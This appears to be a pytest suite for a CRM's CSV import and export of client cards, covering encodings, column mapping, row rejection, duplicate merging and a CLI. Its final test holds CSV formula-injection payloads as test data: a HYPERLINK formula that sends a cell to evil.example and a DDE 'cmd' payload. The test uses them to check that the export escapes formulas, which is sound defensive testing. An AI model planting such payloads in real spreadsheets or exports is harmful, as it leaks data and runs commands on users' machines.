"""CSV import and export of client cards (library and CLI), on SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import AsyncEngine

from crm_sync import cards
from crm_sync.cards import CardInput
from crm_sync.csv_io import CsvImportError, decode, export_csv, import_csv
from crm_sync.matching import MatchSettings, match_number
from crm_sync.schema import client_phones, clients

ROOT = Path(__file__).resolve().parent.parent
RU = MatchSettings()
NOW = datetime(2026, 11, 3, tzinfo=UTC)

RUSSIAN = (
    "Имя;Телефон;Компания;E-mail;Теги;Комментарий\r\n"
    "Иван Петров;8 (495) 123-45-67;ООО Ромашка;ivan@example.ru;vip;звонить после обеда\r\n"
    "Ольга;+7 495 765-43-21, 8 916 000-11-22;;olga@example.ru;;\r\n"
    "Анна Сидорова;84991234567;Лютик;;опт|розница;\r\n"
)


async def count(engine: AsyncEngine, table: sa.Table = clients) -> int:
    async with engine.connect() as conn:
        return int((await conn.execute(sa.select(sa.func.count()).select_from(table))).scalar_one())


async def test_import_utf8_with_russian_headers(engine: AsyncEngine) -> None:
    report = await import_csv(engine, RUSSIAN.encode("utf-8"), RU, NOW)
    assert (report.encoding, report.delimiter, report.rows, report.created, report.merged) == (
        "utf-8",
        ";",
        3,
        3,
        0,
    )
    assert report.rejected == [] and report.ignored_columns == []
    async with engine.connect() as conn:
        olga = await match_number(conn, "+79160001122", RU)
        assert olga.client is not None and olga.client.name == "Ольга"
        ivan_id = (await match_number(conn, "+74951234567", RU)).client_id
        assert ivan_id is not None
        ivan = await cards.get_card(conn, ivan_id)
    assert ivan is not None
    assert (ivan["company"], ivan["emails"], ivan["tags"], ivan["notes"]) == (
        "ООО Ромашка",
        ["ivan@example.ru"],
        ["vip"],
        "звонить после обеда",
    )
    assert ivan["phones"] == [{"e164": "+74951234567", "raw": "8 (495) 123-45-67"}]


async def test_import_cp1251_detected(engine: AsyncEngine) -> None:
    report = await import_csv(engine, RUSSIAN.encode("cp1251"), RU, NOW)
    assert report.encoding == "cp1251" and report.created == 3
    async with engine.connect() as conn:
        names = set((await conn.execute(sa.select(clients.c.name))).scalars())
    assert names == {"Иван Петров", "Ольга", "Анна Сидорова"}


async def test_import_utf8_bom_and_explicit_encodings(engine: AsyncEngine) -> None:
    report = await import_csv(engine, b"\xef\xbb\xbf" + RUSSIAN.encode("utf-8"), RU, NOW, dry_run=True)
    assert report.encoding == "utf-8" and report.created == 3
    with pytest.raises(CsvImportError, match=r"not valid UTF-8 \(line 1\); try --encoding cp1251"):
        await import_csv(engine, RUSSIAN.encode("cp1251"), RU, NOW, encoding="utf-8")
    report = await import_csv(engine, RUSSIAN.encode("cp1251"), RU, NOW, encoding="cp1251", dry_run=True)
    assert report.encoding == "cp1251"
    with pytest.raises(CsvImportError, match="neither UTF-8 nor cp1251"):
        decode(b"name,phone\n\xff\x98\x98", "auto")
    assert await count(engine) == 0


@pytest.mark.parametrize(
    ("text", "mapping", "message"),
    [
        (
            "foo,bar\n1,2\n",
            {},
            "no column for name and phone \\(columns: 'foo', 'bar'\\); use --map COLUMN=name",
        ),
        ("name,bar\nA,2\n", {}, "no column for phone"),
        ("who,tel\nA,+74951234567\n", {"who": "name", "tel": "fone"}, "unknown field 'fone'"),
        ("who,tel\nA,+74951234567\n", {"whom": "name"}, "the file has no column 'whom'"),
        ("", {}, "empty"),
    ],
)
async def test_wrong_columns_clear_error_nothing_written(
    engine: AsyncEngine, text: str, mapping: dict[str, str], message: str
) -> None:
    with pytest.raises(CsvImportError, match=message):
        await import_csv(engine, text.encode(), RU, NOW, mapping=mapping)
    assert await count(engine) == 0


async def test_column_mapping_and_ignored_columns(engine: AsyncEngine) -> None:
    text = "who,tel,misc,ext\nA B,+74951234567,x,101\n"
    report = await import_csv(
        engine, text.encode(), RU, NOW, mapping={"who": "name", "tel": "phone", "ext": "responsible"}
    )
    assert report.created == 1 and report.ignored_columns == ["misc"]
    assert report.columns == {"who": "name", "tel": "phone", "ext": "responsible"}
    async with engine.connect() as conn:
        m = await match_number(conn, "+74951234567", RU)
    assert m.client is not None and m.client.responsible == "101" and m.client.name == "A B"


async def test_rejected_rows_reported_valid_rows_kept(engine: AsyncEngine) -> None:
    text = (
        "name,phone,email,responsible\n"
        "Good One,+74951234567,,\n"
        ",+74951234568,,\n"  # line 3: empty name
        "Bad Number,12345678,,\n"  # line 4: not a phone number
        "No Number,,,\n"  # line 5
        "Bad Mail,+74951234569,not-mail,\n"  # line 6
        "Operator,101,,\n"  # line 7: an extension
        "Bad Resp,+74951234560,,ivan\n"  # line 8
        "Too,+74951234561,,,extra\n"  # line 9: more cells than columns
        "Good Two,+74951234562,,\n"
    )
    report = await import_csv(engine, text.encode(), RU, NOW)
    assert (report.created, report.merged, report.rows) == (2, 0, 9)
    reasons = {r.line: r.reason for r in report.rejected}
    assert set(reasons) == {3, 4, 5, 6, 7, 8, 9}
    assert reasons[3] == "name: the name is empty"
    assert "'12345678' is not a valid phone number" in reasons[4]
    assert reasons[5] == "phone: no phone number"
    assert "'not-mail' is not an e-mail address" in reasons[6]
    assert "internal extension" in reasons[7]
    assert "responsible" in reasons[8]
    assert "5 cells but 4 columns" in reasons[9]
    assert await count(engine) == 2 and await count(engine, client_phones) == 2


@pytest.mark.parametrize("batch", [1, 2, 500])
async def test_duplicates_merged_by_phone(engine: AsyncEngine, batch: int) -> None:
    async with engine.begin() as conn:
        existing = await cards.create_card(
            conn, CardInput(name="Existing", phones=["+74957654321"], tags=["old"]), RU, NOW
        )
    text = (
        "name,phone,email,company,tags\n"
        "Ivan,8 495 123-45-67,ivan@a.ru,,a\n"
        "Ivan P.,+7 (495) 123-45-67; +7 916 111-22-33,ivan@b.ru,Acme,b\n"  # same person, new number
        "Olga,84957654321,olga@c.ru,Lutik,new\n"  # already in the database
    )
    report = await import_csv(engine, text.encode(), RU, NOW, batch=batch)
    assert (report.created, report.merged, report.rejected) == (1, 2, [])
    assert await count(engine) == 2
    async with engine.connect() as conn:
        ivan_id = (await match_number(conn, "+79161112233", RU)).client_id
        assert ivan_id is not None
        ivan = await cards.get_card(conn, ivan_id)
        olga = await cards.get_card(conn, existing)
    assert ivan is not None and olga is not None
    assert ivan["name"] == "Ivan"  # the first row's name stays
    assert [p["e164"] for p in ivan["phones"]] == ["+74951234567", "+79161112233"]
    assert (
        ivan["emails"] == ["ivan@a.ru", "ivan@b.ru"]
        and ivan["company"] == "Acme"
        and ivan["tags"] == ["a", "b"]
    )
    assert olga["name"] == "Existing" and olga["company"] == "Lutik" and olga["tags"] == ["old", "new"]
    assert olga["emails"] == ["olga@c.ru"]


async def test_dry_run_writes_nothing(engine: AsyncEngine) -> None:
    report = await import_csv(engine, RUSSIAN.encode(), RU, NOW, dry_run=True)
    assert report.dry_run and report.created == 3
    assert await count(engine) == 0 and await count(engine, client_phones) == 0


async def test_export_round_trip(engine: AsyncEngine, db_url: str) -> None:
    await import_csv(engine, RUSSIAN.encode(), RU, NOW)
    out = io.StringIO()
    async with engine.connect() as conn:
        n = await export_csv(conn, out, batch=2)
    assert n == 3
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["name"] for r in rows] == ["Иван Петров", "Ольга", "Анна Сидорова"]
    assert rows[1]["phones"] == "'+74957654321; +79160001122"  # text, not a number (spreadsheet)
    assert rows[2]["tags"] == "опт; розница"
    # Importing the export again merges everything into the same cards.
    report = await import_csv(engine, out.getvalue().encode(), RU, NOW)
    assert (report.created, report.merged, report.rejected) == (0, 3, [])
    assert await count(engine) == 3


def _cli(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PBX_BRIDGE_")}
    env["PBX_BRIDGE_DATABASE__URL"] = db_url
    return subprocess.run(
        [sys.executable, "-m", "pbx_bridge", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=ROOT,
        timeout=120,
    )


async def test_cli_import_export(engine: AsyncEngine, db_url: str, tmp_path: Path) -> None:
    src = tmp_path / "clients.csv"
    src.write_bytes(RUSSIAN.encode("cp1251") + "Без телефона;;;;;\r\n".encode("cp1251"))
    dry = await asyncio.to_thread(_cli, db_url, "clients", "import", str(src), "--dry-run")
    assert dry.returncode == 1, dry.stderr  # one row rejected
    assert "encoding cp1251" in dry.stdout and "dry run" in dry.stdout
    assert "line 5: phone: no phone number" in dry.stdout
    assert await count(engine) == 0
    real = await asyncio.to_thread(_cli, db_url, "clients", "import", str(src))
    assert "created 3" in real.stdout and "rejected 1" in real.stdout
    assert await count(engine) == 3

    bad = tmp_path / "bad.csv"
    bad.write_text("foo;bar\n1;2\n", encoding="utf-8")
    wrong = await asyncio.to_thread(_cli, db_url, "clients", "import", str(bad))
    assert wrong.returncode == 1 and "no column for name and phone" in wrong.stderr
    assert "nothing was imported" in wrong.stderr and "Traceback" not in wrong.stderr
    mapped = await asyncio.to_thread(_cli, db_url, "clients", "import", str(bad), "--map", "foo")
    assert mapped.returncode == 1 and "expected COLUMN=FIELD" in mapped.stderr
    enc = await asyncio.to_thread(_cli, db_url, "clients", "import", str(src), "--encoding", "utf-8")
    assert enc.returncode == 1 and "not valid UTF-8" in enc.stderr
    missing = await asyncio.to_thread(_cli, db_url, "clients", "import", str(tmp_path / "nope.csv"))
    assert missing.returncode == 1 and "no such file" in missing.stderr

    out = tmp_path / "export.csv"
    exported = await asyncio.to_thread(_cli, db_url, "clients", "export", str(out))
    assert exported.returncode == 0 and "3 client cards written" in exported.stdout
    assert "Ольга" in out.read_text(encoding="utf-8")
    stdout = await asyncio.to_thread(_cli, db_url, "clients", "export")
    assert stdout.stdout.splitlines()[0].startswith("id,name,company,phones")


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_cli_export_never_writes_a_formula(engine: AsyncEngine, db_url: str, tmp_path: Path) -> None:
    """Issue 18: a card field starting with = + - @ (or tab / CR) is exported as text ('...),
    and the import takes the apostrophe off again."""
    async with engine.begin() as conn:
        await cards.create_card(conn, CardInput(
            name=HYPERLINK, phones=["+79161234567"], company="@SUM(1+1)", source="-2+3",
            tags=["+cmd|' /C calc'!A0", "\t=1+1"], notes="=1+1"), RU, NOW)
    out = tmp_path / "export.csv"
    exported = await asyncio.to_thread(_cli, db_url, "clients", "export", str(out))
    assert exported.returncode == 0, exported.stderr
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert row["name"] == "'" + HYPERLINK
    assert row["company"] == "'@SUM(1+1)" and row["source"] == "'-2+3" and row["notes"] == "'=1+1"
    # (the tab of "\t=1+1" is trimmed as tags are; mid-cell "=" is no formula)
    assert row["tags"] == "'+cmd|' /C calc'!A0; =1+1" and row["phones"] == "'+79161234567"
    formulas = [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formulas == []
    async with engine.begin() as conn:
        await conn.execute(sa.delete(client_phones))
        await conn.execute(sa.delete(clients))
    report = await import_csv(engine, out.read_bytes(), RU, NOW)
    assert report.created == 1 and report.rejected == []
    async with engine.connect() as conn:
        name, company = (await conn.execute(sa.select(clients.c.name, clients.c.company))).one()
    assert (name, company) == (HYPERLINK, "@SUM(1+1)")
